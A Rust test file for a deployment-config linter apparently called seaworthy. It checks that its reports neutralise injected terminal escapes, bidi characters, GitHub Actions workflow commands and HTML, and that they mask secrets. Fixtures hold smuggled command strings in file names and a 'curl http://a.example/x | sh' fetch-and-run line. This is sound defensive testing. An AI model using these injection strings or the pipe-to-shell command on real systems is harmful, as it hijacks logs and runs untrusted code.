//! What a repository holds is shown in a report and never obeyed: by a terminal, a build log, a browser or a renderer.

mod support;

use seaworthy::engine::Report;
use seaworthy::finding::{Edit, Finding, Fix, Label, RuleId, Severity};
use seaworthy::model::{Environment, FileFacts};
use seaworthy::report::Format;
use seaworthy::report::terminal::{Order, Style};
use seaworthy::source::{PerSource, Source, Sources, Tree};
use seaworthy::{Config, lint};
use std::io::Read;
use std::process::Stdio;
use std::sync::Arc;
use std::time::{Duration, Instant};
use support::{Random, Scratch, program, run};

/// Asserts that nothing in an output is obeyed. `is_github` allows lines that are commands of ours.
fn assert_harmless(output: &str, is_github: bool, what: &str) {
    let is_obeyed = |c: char| {
        c != '\n' && c.is_control()
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}' | '\u{ad}')
    };
    if let Some(at) = output.find(is_obeyed) {
        panic!("{what}: {:?}", output[at..].chars().take(40).collect::<String>());
    }
    for line in output.lines() {
        let is_command = line.trim_start().starts_with("::");
        let is_ours = ["::error file=", "::warning file=", "::notice file="].iter().any(|ours| line.starts_with(ours));
        assert!(!is_command || is_github && is_ours, "{what}: {line}");
        assert!(is_ours || !line.contains("##[") && !line.contains("##vso["), "{what}: {line}");
    }
}

/// Names, texts and paths that are commands to whatever shows them.
#[cfg(unix)]
fn hostile() -> Scratch {
    let service = "apiVersion: serving.knative.dev/v1\nkind: Service\nmetadata: {name: \"a\\n::add-mask::b\\e[2J ##[add-mask]c\"}\n\
                   spec:\n  template:\n    spec:\n      containers:\n      - {image: \"x/y:latest\", name: \"\\u202Ez\"}\n";
    let build = "steps:\n- name: ubuntu\n  \"wait\\n::error::x\": 1\n";
    Scratch::with(&[
        ("a\n::stop-commands::x\nb/Dockerfile", "FROM python:latest\nRUN pip install \u{202e}x\u{7}y ##[add-mask]z\n"),
        ("c\u{1b}[31mred/Dockerfile", "FROM python:latest\n"),
        ("d\n::add-mask::o/data.yaml", "steps: \0\0\0\0\0\0"),
        ("e\u{2028}/service.yaml", service),
        ("f/cloudbuild.yaml", build),
        ("g/deploy.sh", "gcloud run deploy \"\\`\\`<img src=//e.example/z.png>\\`\\`x\" --image y:1\n"),
        ("h/main.tf", "resource \"google_cloud_run_v2_service\" \"s\" {\n  name = \"a\\n::warning::${var.x}\"\n}\n"),
        ("\u{1b}]0;t\u{7}/seaworthy.toml", "profil = \"\\u001b[1m\"\n[rules]\n\"a\\n::x::\" = \"off\"\n"),
        ("seaworthy-baseline.json", "{\"schema\": 2, \"findings\": []}"),
    ])
}

#[test]
#[cfg(unix)]
fn no_format_and_no_remark_is_obeyed() {
    let folder = hostile();
    for format in Format::ALL {
        let (code, out, err) = run(
            &folder.0,
            &["check", "--format", format.name(), "--profile", "strict", "--show-files", "--show-unknown"],
        );
        assert_eq!(code, 1, "{err}");
        assert!(out.len() > 500 && err.contains("note: "), "{out}{err}");
        assert_harmless(&out, format == Format::Github, format.name());
        assert_harmless(&err, false, format.name());
    }
}

#[test]
#[cfg(unix)]
fn no_other_command_is_obeyed() {
    let folder = hostile();
    for arguments in [
        &["check", "--diff", "--unsafe-fixes", "--show-fixes"][..],
        &["check", "--add-ignores", "why", "--diff", "--show-fixes"],
        &["facts"],
        &["facts", "--format", "json"],
        &["config", "\u{1b}]0;t\u{7}/a\n::x"],
        &["config", "--json", "\u{1b}]0;t\u{7}/a\n::x"],
        &["check", "--strict-config"],
        &["check", "no\n::add-mask::such"],
        &["check", "--no\n::add-mask::such\u{1b}[1m"],
        &["check", "--select", "no\n::add-mask::such\u{1b}[1m"],
        &["explain", "no\n::add-mask::such\u{1b}[1m"],
        &["baseline", "write", "--baseline", "\u{1b}[1m\n::x/b.json"],
        &["baseline", "prune", "--baseline", "\u{1b}[1m\n::x/b.json"],
    ] {
        let (_, out, err) = run(&folder.0, arguments);
        assert!(out.len() + err.len() > 20, "{arguments:?}");
        assert_harmless(&out, false, &format!("{arguments:?}"));
        assert_harmless(&err, false, &format!("{arguments:?}"));
    }
}

#[test]
#[cfg(unix)]
fn programs_get_every_character_of_a_path() {
    let folder = hostile();
    let (_, out, _) = run(&folder.0, &["check", "--format", "json"]);
    let report: serde_json::Value = serde_json::from_str(&out).expect("JSON");
    let paths: Vec<&str> =
        report["findings"].as_array().expect("a list").iter().filter_map(|one| one["path"].as_str()).collect();
    assert!(
        paths.contains(&"a\n::stop-commands::x\nb/Dockerfile") && paths.contains(&"e\u{2028}/service.yaml"),
        "{paths:?}"
    );
}

#[test]
#[cfg(unix)]
fn a_name_is_no_html_in_a_comment() {
    let (_, out, _) = run(&hostile().0, &["check", "--format", "markdown"]);
    assert!(out.contains("&lt;img src=//e.example") && !out.contains("<img"), "{out}");
}

/// A manifest whose variables are secrets, one below the other.
const SECRETS: &str = "apiVersion: serving.knative.dev/v1\nkind: Service\nmetadata: {name: api}\nspec:\n  template:\n    spec:\n      \
                       containers:\n      - image: a.pkg.dev/b/c/d:1.2.3\n        env:\n        - name: API_TOKEN\n          value: battery-horse-7\n        \
                       - {name: DB_PASSWORD, value: 'plutonium,staple'}\n        - {name: PORT_NAME, value: visible-value}\n";

#[test]
fn an_excerpt_shows_no_secret_of_any_line() {
    let folder = Scratch::with(&[
        ("service.yaml", SECRETS),
        (
            "Dockerfile",
            "FROM node:24.1.0\nARG X=sesame-open-7\nENV API_KEY=$X\nRUN curl http://a.example/x | sh\nENV NPM_TOKEN=zanzibar-9x\n",
        ),
        ("deploy.sh", "docker build --build-arg TOKEN=quicksilver-1 .\ncurl http://a.example/x | sh\n"),
        (
            "key.sh",
            "cat <<E\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bq\nq83ndkw0cm3lq0c8v3m\n-----END RSA PRIVATE KEY-----\nE\ncurl http://a.example/x | sh\n",
        ),
    ]);
    let secrets = ["battery", "plutonium", "staple", "sesame", "zanzibar", "quicksilver", "q83ndkw"];
    for format in Format::ALL {
        for more in [&["--profile", "strict"][..], &["--select", "curl-pipe-shell"], &["--select", "secrets"]] {
            let (_, out, err) = run(&folder.0, &[&["check", "--format", format.name()], more].concat());
            for secret in secrets {
                assert!(!out.contains(secret) && !err.contains(secret), "{}: {secret}: {out}", format.name());
            }
        }
    }
    // The other lines are shown, and a blot does not tell how long the secret is.
    let (_, out, _) = run(&folder.0, &["check", "--format", "full", "--select", "secrets"]);
    assert!(out.contains(" value: *****\n"), "{out}");
    assert!(out.contains("{name: DB_PASSWORD, value: '*****'}"), "{out}");
    assert!(out.contains("visible-value") && !out.contains("******"), "{out}");
}

#[test]
fn a_diff_shows_no_secret_and_applies_without_one() {
    let folder = Scratch::with(&[
        ("a/service.yaml", SECRETS),
        ("b/Dockerfile", "FROM node:24.1.0\r\nCMD [\"node\", \"a.js\"]"),
        ("c/Dockerfile", "FROM node:24.1.0\nENV API_KEY=battery-horse-7\nCMD [\"node\", \"\u{1b}[31m\u{202e}a.js\"]\n"),
    ]);
    let (code, out, _) = run(&folder.0, &["check", "--diff", "--unsafe-fixes"]);
    assert_eq!(code, 1);
    assert!(!out.contains("battery") && !out.contains("plutonium"), "{out}");
    assert!(out.contains("-          value: *****\n") && out.contains("DB_PASSWORD, value: '*****'}"), "{out}");
    assert!(out.contains(" ENV API_KEY=*****\n") && out.contains("\"␛[31m\u{fffd}a.js\"]\n"), "{out}");
    let expected = "--- a/b/Dockerfile\n+++ b/b/Dockerfile\n@@ -1,2 +1,3 @@\n FROM node:24.1.0\r\n+USER node\r\n CMD [\"node\", \"a.js\"]\n\\ No newline at end of file\n";
    assert!(out.contains(expected), "{out:?}");
}

#[test]
fn a_place_on_a_very_long_line_is_shown_with_its_column() {
    let line = format!("{}; curl http://a.example/x | sh; {}", ": x".repeat(30_000), "y".repeat(70_000));
    let folder = Scratch::with(&[
        ("deploy.sh", &format!("#!/bin/sh\n{line}\n")),
        ("Dockerfile", "FROM python:latest\nUSER 1\n"),
    ]);
    let (code, out, err) = run(&folder.0, &["check", "--format", "full"]);
    assert_eq!(code, 1, "{err}");
    assert!(out.contains("[deploy.sh:2:90003]") && out.contains("curl http://a.example/x | sh"), "{out}");
    assert!(out.contains("warning[latest-tag]"), "{out}");
    let longest = out.lines().map(|line| line.chars().count()).max();
    assert!(longest < Some(600), "{longest:?}");
}

#[test]
fn a_report_takes_a_time_that_grows_with_its_length() {
    let many: String = (0..20_000).map(|number| format!("RUN pip install x{number}\n")).collect();
    let long: Vec<String> = (0..25_000).map(|number| format!("pip install x{number}")).collect();
    let texts = [format!("FROM alpine:3.23\n{many}"), format!("FROM alpine:3.23\nRUN {}\n", long.join(" && "))];
    let select = vec![RuleId::of("unpinned-language-deps")];
    for text in texts {
        let sources = Sources::from_texts([("Dockerfile", text.as_str())]);
        let begin = Instant::now();
        let report = lint(&sources, &Config { select: select.clone(), ..Config::default() });
        assert!(report.findings.len() >= 20_000, "{}", report.findings.len());
        for format in [Format::Full, Format::Concise, Format::Github] {
            let mut out = Vec::new();
            format.write(&mut out, &report, &sources, Style::PLAIN, true).expect("writing to memory");
        }
        // One that walks from the top for each finding takes minutes.
        assert!(begin.elapsed() < Duration::from_secs(40), "{:?}", begin.elapsed());
    }
}

/// Random text: most of it plain, with everything that is hard to show.
fn random_text(random: &mut Random, pieces: usize) -> String {
    const PIECES: [&str; 24] = [
        "a",
        "word ",
        "é",
        "🚢",
        "漢字",
        "\t",
        "\n",
        "\n",
        "\r\n",
        "\r",
        "\u{feff}",
        "\u{1b}[31m",
        "\u{7}",
        "\u{9b}1m",
        "\u{202e}",
        "\u{2028}",
        "\u{200d}",
        "::stop-commands::x",
        "##[add-mask]y",
        "`",
        "``",
        "|<img>|",
        "\\",
        "e\u{301}",
    ];
    let mut text = String::new();
    for _ in 0..random.below(pieces) {
        text.push_str(PIECES[random.below(PIECES.len())]);
        if random.below(400) == 0 {
            text.push_str(&"long ".repeat(14_000));
        }
    }
    text
}

#[test]
fn findings_anywhere_in_any_text_are_shown_in_every_format() {
    // A fixed seed, so that a failure can be reproduced.
    let mut random = Random(0x9e37_79b9_7f4a_7c15);
    let paths = ["a\n::x::/Dockerfile", "b\u{202e}\u{1b}[1m/Dockerfile", "c/Dockerfile"];
    // Sources with the same paths have the same ids, so these findings give a span of each.
    let plain = Sources::from_texts(paths.map(|path| (path, "FROM python:latest\n")));
    let spans: Vec<_> = lint(&plain, &Config::default()).findings.iter().map(|finding| finding.span).collect();
    for round in 0..60 {
        let files = paths.map(|path| Source::new(path, random_text(&mut random, 60)));
        let sources = Sources::new(files.into(), Tree::default(), Vec::new());
        let random_span = |random: &mut Random| {
            let mut span = spans[random.below(spans.len())];
            let text = &sources.get(span.source).text;
            let mut ends = [random.below(text.len() + 1), random.below(text.len() + 1)];
            ends.sort_unstable();
            while !text.is_char_boundary(ends[0]) {
                ends[0] -= 1;
            }
            while !text.is_char_boundary(ends[1]) {
                ends[1] += 1;
            }
            (span.start, span.end) = (ends[0] as u32, if random.below(3) == 0 { ends[1] } else { ends[0] } as u32);
            span
        };
        let facts = |path: &Arc<str>| FileFacts {
            path: path.clone(),
            surface: None,
            environment: Environment::Production,
            evidence: None,
        };
        let finding = |random: &mut Random| {
            let severity = Severity::ALL[random.below(3)];
            let (message, span) = (random_text(random, 12), random_span(random));
            let mut finding = Finding::new(RuleId::of("latest-tag"), "supply-chain", severity, message, span);
            finding.label = (random.below(2) == 0).then(|| random_text(random, 6));
            finding.help = (random.below(2) == 0).then(|| random_text(random, 20));
            finding.is_secret = random.below(4) == 0;
            finding.related = (0..random.below(30))
                .map(|_| Label { span: random_span(random), message: random_text(random, 6) })
                .collect();
            let edits = vec![Edit::replace(random_span(random), random_text(random, 6))];
            finding.fix = (random.below(2) == 0).then(|| Fix::safe(random_text(random, 6), edits));
            Arc::new(finding)
        };
        let report = Report {
            findings: (0..8).map(|_| finding(&mut random)).collect(),
            sources: Arc::new(PerSource::of(&sources, |_, source| facts(&source.path))),
            files: sources.iter().map(|(_, source)| facts(&source.path)).collect(),
            ..Report::default()
        };
        for format in Format::ALL {
            for has_colour in [false, true] {
                let style = Style { has_colour, has_unicode: round % 2 == 0, width: 60, order: Order::Path };
                let mut out = Vec::new();
                format.write(&mut out, &report, &sources, style, true).expect("writing to memory");
                let text = String::from_utf8(out).expect("UTF-8");
                assert!(text.contains("latest-tag"), "{}: {text}", format.name());
                assert_harmless(&without_colours(&text), format == Format::Github, format.name());
            }
        }
    }
}

/// A text without the colours that are ours.
fn without_colours(text: &str) -> String {
    let mut parts = text.split("\u{1b}[");
    let mut plain = parts.next().unwrap_or_default().to_owned();
    for part in parts {
        let rest = part.trim_start_matches(|c: char| c.is_ascii_digit() || c == ';');
        plain.push_str(rest.strip_prefix('m').unwrap_or_else(|| panic!("no colour: {part:?}")));
    }
    plain
}

#[test]
fn a_reader_that_leaves_early_does_not_change_the_exit_code() {
    let folder = Scratch::new();
    for number in 0..400 {
        folder.write(&format!("d{number}/Dockerfile"), b"FROM python:latest\nUSER 1\n");
    }
    for (more, expected) in [(&[][..], 1), (&["--exit-zero"], 0), (&["--fail-on", "error"], 0)] {
        for format in Format::ALL {
            let mut child = program(&folder.0)
                .args([&["check", "--format", format.name()], more].concat())
                .stdout(Stdio::piped())
                .stderr(Stdio::null())
                .spawn()
                .expect("the program starts");
            // As `head` does: read a little, then close the pipe.
            let mut pipe = child.stdout.take().expect("it is piped");
            pipe.read_exact(&mut [0; 10]).expect("the beginning");
            drop(pipe);
            assert_eq!(child.wait().expect("it ends").code(), Some(expected), "{} {more:?}", format.name());
        }
    }
}

#[test]
#[cfg(target_os = "linux")]
fn results_that_cant_be_written_are_an_error() {
    let folder = Scratch::with(&[("Dockerfile", "FROM python:latest\nUSER 1\n")]);
    let full = || Stdio::from(std::fs::File::options().write(true).open("/dev/full").expect("a full device"));
    for format in Format::ALL {
        let output = program(&folder.0).args(["check", "--format", format.name()]).stdout(full()).output();
        let output = output.expect("the program starts");
        let err = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{}: {err}", format.name());
        assert!(err.contains("seaworthy: the output can't be written"), "{err}");
    }
    let (code, _, err) = run(&folder.0, &["check", "--output", "json=/dev/full"]);
    assert_eq!(code, 2);
    assert!(err.contains("`/dev/full` can't be written"), "{err}");
    // No one reads standard error, and the findings are written all the same.
    let output = program(&folder.0).args(["check", "--format", "concise"]).stderr(full()).output().expect("it starts");
    assert_eq!(output.status.code(), Some(1));
    assert!(!output.stdout.is_empty());
}
